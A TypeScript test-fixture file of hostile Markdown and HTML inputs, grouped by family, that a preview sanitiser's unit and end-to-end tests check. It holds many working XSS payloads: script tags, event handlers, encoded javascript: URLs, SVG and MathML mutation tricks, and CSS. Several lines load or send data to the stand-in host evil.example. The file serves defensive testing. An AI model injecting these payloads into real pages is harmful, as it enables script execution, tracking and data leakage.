/**
 * Hostile Markdown/HTML inputs by family: what another person in the room could type to run code
 * in our page, load something from elsewhere, restyle the app or leak the room key. The unit suite
 * (`PreviewView.hostile.test.ts`) asserts the sanitised output of each; the end-to-end test
 * (`e2e/preview.spec.ts`) has a peer type all of them. Payloads that would run set `window.__pwned`.
 */

/** One payload: its family (the kind of attack), a name, and the Markdown a peer types. */
export interface HostilePayload {
  readonly family: string
  readonly name: string
  readonly markdown: string
}

const P = (family: string, name: string, markdown: string): HostilePayload => ({ family, name, markdown })

/** Every payload, by family; each name is unique. */
export const HOSTILE_PAYLOADS: readonly HostilePayload[] = [
  // script elements
  P('script', 'script tag', '<script>window.__pwned = 1</script>'),
  P('script', 'upper-case script with src', '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>'),
  P('script', 'split script tag', '<scr<script>ipt>window.__pwned = 2</script>'),
  P('script', 'script inside a paragraph', 'before <script>window.__pwned = 3</script> after'),
  P('script', 'script in a fence stays text', '```html\n<script>window.__pwned = 4</script>\n```'),
  // event handlers
  P('handler', 'img onerror', '<img src=x onerror="window.__pwned = 5">'),
  P('handler', 'div onclick, mixed case', '<div OnClIcK="window.__pwned = 6">click</div>'),
  P('handler', 'link onmouseover', '<a href="https://example.com/" onmouseover="window.__pwned = 7">hover</a>'),
  P('handler', 'details ontoggle', '<details open ontoggle="window.__pwned = 8"><summary>s</summary>d</details>'),
  P('handler', 'input autofocus onfocus', '<input autofocus onfocus="window.__pwned = 9">'),
  P('handler', 'body onload', '<body onload="window.__pwned = 10">'),
  P('handler', 'marquee onstart', '<marquee onstart="window.__pwned = 11">m</marquee>'),
  P('handler', 'handler after slash', '<img/src=x/onerror=window.__pwned=12>'),
  // URL schemes
  P('url', 'markdown javascript: link', '[a](javascript:window.__pwned=13)'),
  P('url', 'mixed-case scheme', '[a](JaVaScRiPt:window.__pwned=14)'),
  P('url', 'entity-encoded scheme in HTML', '<a href="&#106;&#97;vascript:window.__pwned=15">e</a>'),
  P('url', 'padded entities', '<a href="&#0000106avascript:window.__pwned=16">e</a>'),
  P('url', 'tab inside the scheme', '<a href="jav&#x09;ascript:window.__pwned=17">t</a>'),
  P('url', 'newline inside the scheme', '<a href="java\nscript:window.__pwned=18">n</a>'),
  P('url', 'leading space and control char', '<a href=" &#1;javascript:window.__pwned=19">c</a>'),
  P('url', 'entity colon', '<a href="javascript&colon;window.__pwned=20">c</a>'),
  P('url', 'markdown entity scheme', '[a](&#106;avascript:window.__pwned=21)'),
  P('url', 'angle-bracket link destination', '[a](<javascript:window.__pwned=22>)'),
  P('url', 'autolink javascript:', '<javascript:window.__pwned=23>'),
  P('url', 'vbscript:', '[a](vbscript:msgbox)'),
  P('url', 'data:text/html link', '[a](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0yNDwvc2NyaXB0Pg==)'),
  P('url', 'data:text/html in HTML', '<a href="data:text/html,<script>window.__pwned=25</script>">d</a>'),
  P('url', 'file: link', '[a](file:///etc/passwd)'),
  P('url', 'javascript: image', '![x](javascript:window.__pwned=26)'),
  P('url', 'data:text/html image', '<img src="data:text/html,<script>window.__pwned=27</script>">'),
  // SVG
  P('svg', 'svg script', '<svg><script>window.__pwned = 28</script></svg>'),
  P('svg', 'svg onload', '<svg onload="window.__pwned = 29"></svg>'),
  P('svg', 'foreignObject iframe', '<svg><foreignObject><iframe src="javascript:window.__pwned=30"></iframe></foreignObject></svg>'),
  P('svg', 'xlink:href javascript', '<svg><a xlink:href="javascript:window.__pwned=31"><text x="0" y="20">x</text></a></svg>'),
  P('svg', 'animate to javascript:', '<svg><a><animate attributeName="href" to="javascript:window.__pwned=32"/><text>y</text></a></svg>'),
  P('svg', 'use with external href', '<svg><use href="https://evil.example/sprite.svg#x"/></svg>'),
  P('svg', 'svg data image (markdown-it allows raster data images only)', '![s](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=)'),
  // MathML
  P('mathml', 'mglyph style mXSS', '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=33">'),
  P('mathml', 'maction xlink:href', '<math><maction actiontype="statusline" xlink:href="javascript:window.__pwned=34">m</maction></math>'),
  P('mathml', 'math href', '<math href="javascript:window.__pwned=35"><mi>x</mi></math>'),
  P('mathml', 'form/math namespace confusion', '<form><math><mtext></form><form><mglyph><style></math><img src onerror="window.__pwned=36">'),
  // nested and malformed HTML, mutation XSS
  P('malformed', 'unclosed nesting', '<div><div><p>unclosed <b>bold'),
  P('malformed', 'attribute that closes the tag', '<p title="</p><img src=x onerror=window.__pwned=37>">t</p>'),
  P('malformed', 'comment hiding a tag', '<!--<img src=x onerror=window.__pwned=38>-->after'),
  P('malformed', 'CDATA', '<![CDATA[<img src=x onerror=window.__pwned=39>]]>'),
  P('malformed', 'noscript mXSS', '<noscript><p title="</noscript><img src=x onerror=window.__pwned=40>"></noscript>'),
  P('malformed', 'textarea', '<textarea><img src=x onerror=window.__pwned=41></textarea>'),
  P('malformed', 'xmp', '<xmp><img src=x onerror=window.__pwned=42></xmp>'),
  P('malformed', 'template', '<template><img src=x onerror=window.__pwned=43></template>'),
  P('malformed', 'nested links', '<a href="https://example.com/"><a href="javascript:window.__pwned=44">in</a></a>'),
  P('malformed', 'broken quotes', '<img """><script>window.__pwned=45</script>">'),
  P('malformed', 'table svg desc', '<table><tr><td><svg><desc><img src=x onerror=window.__pwned=46></desc></svg></td></tr></table>'),
  // embedding, navigation, forms
  P('embed', 'iframe', '<iframe src="https://evil.example/"></iframe>'),
  P('embed', 'iframe srcdoc', '<iframe srcdoc="<script>parent.__pwned=47</script>"></iframe>'),
  P('embed', 'object', '<object data="https://evil.example/x.swf"></object>'),
  P('embed', 'embed', '<embed src="https://evil.example/x.swf">'),
  P('embed', 'form with button', '<form action="https://evil.example/"><input name="q" value="secret"><button>send</button></form>'),
  P('embed', 'base href', '<base href="https://evil.example/">'),
  P('embed', 'meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
  P('embed', 'link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'),
  P('embed', 'input type image', '<input type="image" src="https://evil.example/i.png">'),
  // CSS
  P('css', 'style @import', '<style>@import url(https://evil.example/x.css);</style>'),
  P('css', 'style url()', '<style>.app { background: url(https://evil.example/bg.png) }</style>'),
  P('css', 'style attribute url()', '<div style="background:url(https://evil.example/x.png)">s</div>'),
  P('css', 'CSS expression', '<div style="width: expression(window.__pwned=48)">e</div>'),
  P('css', 'overlay over the app', '<div style="position:fixed;inset:0;z-index:9">fake dialog</div>'),
  P('css', 'app class names', '<div class="app notice topbar">pretend</div>'),
  P('css', 'table background', '<table background="https://evil.example/t.png"><tr><td>t</td></tr></table>'),
  P('css', 'img srcset', '<img srcset="https://evil.example/x.png 1x" alt="s">'),
  P('css', 'video poster', '<video poster="https://evil.example/p.png"></video>'),
  P('css', 'picture source', '<picture><source srcset="https://evil.example/x.png"><img alt="p"></picture>'),
  // links and the room key
  P('link', 'plain link', '[site](https://example.com/page?q=1#their-fragment "Title")'),
  P('link', 'fragment-only link', '[jump](#another-room-secret)'),
  P('link', 'HTML fragment link', '<a href="#another-room-secret">jump</a>'),
  P('link', 'relative link', '[rel](other-page)'),
  P('link', 'protocol-relative link', '[proto](//evil.example/x)'),
  P('link', 'target and rel from the text', '<a href="https://example.com/" target="_self" rel="opener">t</a>'),
  P('link', 'ping, download and referrerpolicy', '<a href="https://example.com/" ping="https://evil.example/" download referrerpolicy="unsafe-url">p</a>'),
  P('link', 'bare URL (linkify)', 'see https://example.com/x for more'),
  P('link', 'mailto', '[mail](mailto:someone@example.com)'),
  P('link', 'id and name (DOM clobbering)', '<a id="meshpad" name="location" href="https://example.com/">c</a><img name="getElementById" alt="n">'),
  // images and privacy
  P('image', 'remote https image', '![cat](https://images.example.test/cat.png)'),
  P('image', 'remote http image', '![cat](http://images.example.test/cat.png)'),
  P('image', 'relative image', '![rel](cat.png)'),
  P('image', 'protocol-relative image', '<img src="//images.example.test/cat.png" alt="p">'),
  P('image', 'data image', '![dot](data:image/png;base64,iVBORw0KGgo=)'),
]
